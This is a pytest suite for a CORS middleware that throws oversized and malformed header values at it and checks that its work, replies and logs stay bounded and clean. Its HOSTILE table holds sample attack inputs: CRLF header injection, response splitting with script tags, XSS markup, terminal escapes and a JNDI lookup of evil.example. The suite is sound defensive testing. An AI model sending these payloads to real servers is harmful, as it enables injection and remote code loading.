"""`cors`: requests that nobody sends in good faith: bounded work, bounded replies, nothing raw."""

import logging
import sys
from collections.abc import Callable
from typing import Any

import pytest
from starlette.middleware.cors import CORSMiddleware as Peer

from asgi_middleware import CORSMiddleware

from .apps import accepts, body, raises, remembers, sends, start
from .asgi import App, Exchange, drive
from .browser_model import ACAO, A, get, handshake, preflight
from .test_cors import ANY, ANY_HEADER, ANYBODY, LISTED, MY, NAMES, REALLY_ANY, Options, long_origin, refusal, whole

# --- a list of header names is measured before it is split ------------------------------------------------------------


class Unsplittable(bytes):
    """A hostile field value that tells when somebody starts to take it apart."""

    def split(self, *args: Any, **kwargs: Any) -> list[bytes]:
        raise AssertionError("taken apart before it was measured")

    lower = strip = replace = decode = split  # type: ignore[assignment]  # each of them walks the whole value  # pyright: ignore[reportAssignmentType]


@pytest.mark.parametrize("options", [LISTED, NAMES, ANY_HEADER], ids=["the default", "a list", "any header"])
@pytest.mark.parametrize(
    "hostile",
    [b"," * 65536, b"x-b," * 16384, b" " * 65536, b"\t ," * 22000, b"x" * 65536],
    ids=["commas", "one name again and again", "blanks", "blanks and commas", "one long name"],
)
def test_a_hostile_list_of_headers_is_measured_before_it_is_split(options: Options, hostile: bytes) -> None:
    scope = preflight()
    scope["headers"].append((b"access-control-request-headers", Unsplittable(hostile)))
    app, scopes = remembers()
    assert whole(drive(CORSMiddleware(app, **options), scope)) == refusal("headers (too many)", MY)
    assert scopes == []


def test_the_unsplittable_list_would_have_told() -> None:
    scope = preflight()
    scope["headers"].append((b"access-control-request-headers", Unsplittable(b"x-b")))
    exchange = drive(CORSMiddleware(remembers()[0], **NAMES), scope)
    assert str(exchange.error) == "taken apart before it was measured"


# --- anything, anywhere -----------------------------------------------------------------------------------------------

HOSTILE_OPTIONS: dict[str, Options] = {
    "nothing allowed": {"allow_origins": []},
    "a list": LISTED,
    "patterns": {"allow_origins": ["https://*.example.com:*", "http://localhost:*"]},
    "an open regex": {"allow_origin_regex": ".*"},
    "a function for anybody": ANYBODY,
    "any origin": ANY,
    "any origin, header and method": {**ANY, "allow_headers": ["*"], "allow_methods": ["*"]},
    "any of all, with credentials": {**REALLY_ANY, "allow_headers": ["*"], "allow_methods": ["*"]},
    "all of all": {
        **LISTED,
        "allow_origin_regex": "(?s).*",
        "allow_headers": ["*"],
        "allow_methods": ["*"],
        "allow_private_network": True,
        "dangerously_allow_null_origin": True,
    },
}

# What stands in for an origin, a method, a header name, a host.
HOSTILE: dict[str, bytes] = {
    "nothing": b"",
    "one blank": b" ",
    "a star": b"*",
    "null": b"null",
    "non-ASCII": "https://\xe4.example".encode("latin-1"),
    "UTF-8": "https://b\xfccher.example\u2603".encode(),
    "every byte": bytes(range(256)),
    "NUL": b"https://a.example\x00",
    "a line and a header of its own": b"https://a.example\r\nset-cookie: a=1",
    "a line feed": b"https://a.example\nx-evil: 1",
    "a carriage return": b"https://a.example\rx-evil: 1",
    "a whole response": b"x\r\n\r\nHTTP/1.1 200 OK\r\n\r\n<script>",
    "markup": b"<script>alert(1)</script>",
    "a terminal's escape": b"https://a.example\x1b[31m\x9b2J",
    "a format": b"%s%n{0}${jndi:ldap://evil.example}",
    "an origin of 330 bytes": long_origin(330).encode(),
    "an origin of 331 bytes": long_origin(331).encode(),
    "an origin of 64 KiB": long_origin(65536).encode(),
    "64 KiB of labels": b"https://" + b"a." * 32764,
    "64 KiB of digits": b"http://localhost:" + b"1" * 65519,
    "10,000 commas": b"," * 10_000,
    "64 KiB of commas": b"," * 65536,
    "64 KiB of blanks": b" " * 65536,
    "64 KiB of blanks and commas": b" \t," * 21846,
    "64 KiB of one name": b"x-b," * 16384,
    "64 KiB in one name": b"x" * 65536,
    "4 KiB of commas": b"," * 4096,
    "4 KiB of short names": b",".join(b"%c%c" % (one, two) for one in b"abcdefghij" for two in b"klmnopqrst"),
}


def hostile_scopes(value: bytes) -> list[dict[str, Any]]:
    """The value in each place that the middleware looks at, in one line, in two, and in one line too many."""
    asked = ("method", "headers", "private-network")
    places = [
        (get(), ["origin", "vary"]),
        (preflight(A, "GET", "x-a"), ["origin", *(f"access-control-request-{name}" for name in asked)]),
        (handshake(A), ["origin", "host"]),
    ]
    made: list[dict[str, Any]] = []
    for scope, names in places:
        for name in map(str.encode, names):
            others = [pair for pair in scope["headers"] if pair[0] != name]
            repeated = (1, 2, 33) if len(value) <= 4096 else (1, 2)
            made += ({**scope, "headers": [*others, *[(name, value)] * lines]} for lines in repeated)
    return made


# The longest that each field may be in a reply. Of 4 KiB of names, each gets a blank at its comma.
LONGEST = {
    "access-control-allow-origin": 330,
    "access-control-allow-methods": 64,
    "access-control-allow-headers": 4096 + 2048,
}
LONGEST_OTHER = 128
# 64 bytes of the origin and of the item that is refused, each perhaps as `\\x00`.
LONGEST_LOGGED = 64 * 4 * 2 + 64
LONGEST_BODY = len("Disallowed CORS headers ''") + 4 * 64


def counted(app: App, scope: dict[str, Any]) -> tuple[int, Exchange]:
    """How many functions were called, in Python and in C, until the app was done; what came of it."""
    calls = 0

    def count(frame: Any, event: str, argument: Any) -> None:
        nonlocal calls
        calls += event in ("call", "c_call")

    before = sys.getprofile()
    sys.setprofile(count)
    try:
        exchange = drive(app, scope)
    finally:
        sys.setprofile(before)
    return calls, exchange


ORDINARY = counted(CORSMiddleware(sends(), **LISTED), preflight(A, "GET", "content-type"))[0]


def complaints(app: App, scope: dict[str, Any]) -> list[str]:
    """What is wrong with the treatment of a hostile request; nothing, if it is right."""
    calls, exchange = counted(app, scope)
    found: list[str] = []
    if exchange.error is not None:
        return [f"raises {type(exchange.error).__name__}"]
    if calls > 10 * ORDINARY:
        found.append("works without bound")
    for message in exchange.sent:
        if message.get("status", 200) >= 500:
            found.append("answers a server's error")
        for name, value in message.get("headers", ()):
            if not (name + value).decode("latin-1").isascii() or not (name + value).decode("latin-1").isprintable():
                found.append(f"sends {name.decode('latin-1')} raw")
            if len(value) > LONGEST.get(name.decode("latin-1"), LONGEST_OTHER):
                found.append(f"sends {len(value)} bytes of {name.decode('latin-1')}")
        text = message.get("body", b"").decode("latin-1")
        if not (text.isascii() and text.isprintable() and len(text) <= LONGEST_BODY):
            found.append("sends a body raw")
    return found


def answers() -> App:
    """An app for either kind of scope."""
    http, websocket = sends(start(headers=[]), body(b"ok")), accepts()

    async def app(scope: Any, receive: Any, send: Any) -> None:
        await (http if scope["type"] == "http" else websocket)(scope, receive, send)

    return app


@pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE)
@pytest.mark.parametrize("options", HOSTILE_OPTIONS.values(), ids=HOSTILE_OPTIONS)
def test_whatever_is_sent_the_work_and_the_reply_are_bounded_and_nothing_is_raw(
    options: Options, value: bytes, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    app = CORSMiddleware(answers(), **options, websocket="check")
    found = [complaints(app, scope) for scope in hostile_scopes(value)]
    assert found == [[]] * len(found)
    logged = [record.getMessage() for record in caplog.records]
    assert [
        text for text in logged if not (text.isascii() and text.isprintable() and len(text) <= LONGEST_LOGGED)
    ] == []


def test_a_function_that_fails_for_a_hostile_origin_logs_nothing_of_it(caplog: pytest.LogCaptureFixture) -> None:
    """CVE-2024-1681: the log is a place to inject lines into."""

    def fails(origin: str, scope: Any) -> bool:
        raise LookupError("no database")

    caplog.set_level(logging.DEBUG)
    app = CORSMiddleware(answers(), allow_origin_func=fails)
    for value in HOSTILE.values():
        for scope in hostile_scopes(value):
            assert complaints(app, scope) == []
    errors = [record for record in caplog.records if record.levelno > logging.DEBUG]
    assert {(record.getMessage(), record.args) for record in errors} == {
        ("allow_origin_func raised; the origin is refused", ())
    }


def reflects(name: bytes) -> App:
    """Sends the request's Origin back, in a header of this name."""

    async def app(scope: Any, receive: Any, send: Any) -> None:
        values = [value for key, value in scope["headers"] if key == b"origin"]
        await send(start(headers=[(name, value) for value in values]))
        await send(body(values[-1] if values else b""))

    return app


def walks() -> App:
    """Takes every header apart, byte by byte."""

    async def app(scope: Any, receive: Any, send: Any) -> None:
        for _, value in scope["headers"]:
            for part in value.split(b","):
                part.strip()

    return app


PEER: Options = {"allow_origin_regex": ".*", "allow_headers": ["*"], "allow_methods": ["*"], "allow_credentials": True}
TOLD: list[tuple[str, Callable[[], App], str, list[str]]] = [
    ("one that raises", lambda: raises(ValueError()), "nothing", ["raises ValueError"]),
    ("one that gives up", lambda: sends(start(500, []), body(b"")), "nothing", ["answers a server's error"]),
    (
        "one that reflects a line break",
        lambda: reflects(ACAO.encode()),
        "a line feed",
        [f"sends {ACAO} raw", "sends a body raw"],
    ),
    (
        "one that reflects what is long",
        lambda: reflects(ACAO.encode()),
        "an origin of 331 bytes",
        [f"sends 331 bytes of {ACAO}", "sends a body raw"],
    ),
    ("one that reads it all", walks, "64 KiB of commas", ["works without bound"]),
    (
        "a peer that names any origin, however long",
        lambda: Peer(answers(), **PEER),
        "an origin of 64 KiB",
        [f"sends 65536 bytes of {ACAO}"],
    ),
    (
        "a peer that mirrors all names",
        lambda: Peer(answers(), **PEER),
        "64 KiB in one name",
        ["sends 65536 bytes of access-control-allow-headers"],
    ),
    (
        "a peer that splits all names",
        lambda: Peer(answers(), **{**PEER, "allow_headers": ["x-b"]}),
        "64 KiB of one name",
        ["works without bound"],
    ),
]


@pytest.mark.parametrize(("sentence", "make", "value", "expected"), TOLD, ids=[row[0] for row in TOLD])
def test_the_hostile_requests_would_have_told(
    sentence: str, make: Callable[[], App], value: str, expected: list[str]
) -> None:
    found = [complaints(make(), scope) for scope in hostile_scopes(HOSTILE[value])]
    assert expected in found
